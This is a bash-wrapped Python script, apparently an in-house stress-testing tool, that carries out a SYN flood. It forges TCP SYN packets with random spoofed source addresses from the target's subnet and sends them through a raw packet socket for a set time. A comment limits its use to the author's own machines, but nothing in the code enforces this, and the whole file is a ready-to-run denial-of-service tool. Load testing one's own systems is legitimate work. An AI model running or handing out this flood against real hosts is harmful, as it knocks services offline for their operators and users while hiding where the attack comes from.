#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# synflood.sh INTERFACE ADDRESS PORT [seconds]: SYNs from random addresses of INTERFACE's network at a node
# of ours. Only against your own machines.
set -eu
exec python3 -B - "$1" "$2" "$3" "${4:-5}" <<'PY'
import random, socket, struct, sys, time
name, to, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])


def total(data):
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((name, 0))
own = wire.getsockname()[4]
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.sendto(b'', (to, 9))  # the kernel finds the neighbour
time.sleep(0.5)
with open('/proc/net/arp') as f:
    mac = next(bytes.fromhex(line.split()[3].replace(':', '')) for line in f if line.split()[0] == to)
network, target = socket.inet_aton(to)[:3], socket.inet_aton(to)
frames = []
for _ in range(4096):
    source = network + bytes([random.randrange(100, 250)])
    tcp = struct.pack('!HHIIBBHHH', random.randrange(1024, 65535), port, random.getrandbits(32), 0, 0x50, 2, 64000, 0, 0)
    tcp = tcp[:16] + struct.pack('!H', total(source + target + struct.pack('!HH', 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + target
    ip = ip[:10] + struct.pack('!H', total(ip)) + ip[12:]
    frames.append(mac + own + b'\x08\x00' + ip + tcp)
sent, begun = 0, time.time()
while time.time() < begun + seconds:
    for frame in frames[:256]:
        wire.send(frame)
    sent += 256
    random.shuffle(frames)
print('%d SYNs, %.0f a second' % (sent, sent / (time.time() - begun)))
PY
